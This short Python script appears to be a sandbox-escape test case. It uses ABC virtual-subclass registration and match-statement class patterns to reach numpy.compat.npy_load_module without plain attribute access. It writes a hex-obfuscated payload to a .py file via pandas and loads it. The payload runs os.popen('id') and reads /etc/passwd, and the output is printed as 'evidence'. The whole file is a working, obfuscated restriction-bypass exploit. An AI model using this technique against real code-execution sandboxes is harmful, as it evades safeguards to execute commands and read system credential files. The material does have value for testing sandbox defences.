# source: Python docs abc.ABCMeta.register (virtual subclass) + PEP 634 class patterns (positional captures use the dataclass-generated __match_args__); numpy 1.24 numpy.compat.npy_load_module
# family: dataclass deriving from a collections.abc ABC; register(type(module)) makes a module match the class; field names read module attributes
# goal: numpy.compat.npy_load_module on a written .py -> os.popen('id'), open('/etc/passwd')
import collections.abc
import dataclasses
import json
import numpy as np
import pandas as pd


@dataclasses.dataclass
class G(collections.abc.Container):
    compat: object = None

    def __contains__(self, x):
        return False


@dataclasses.dataclass
class H(collections.abc.Container):
    npy_load_module: object = None

    def __contains__(self, x):
        return False


G.register(type(np))
H.register(type(np))
src = bytes.fromhex("696d706f7274206f730a52203d206f732e706f70656e2827696427292e726561642829202b206f70656e28272f6574632f70617373776427292e7265616428295b3a36305d0a").decode()
pd.Series(src.split(chr(10))).to_csv("sx407.py", index=False, header=False, sep="\t")
match np:
    case G(c):
        pass
match c:
    case H(ld):
        pass
m = ld("sx407", "sx407.py")
print(json.dumps({"evidence": m.R}))
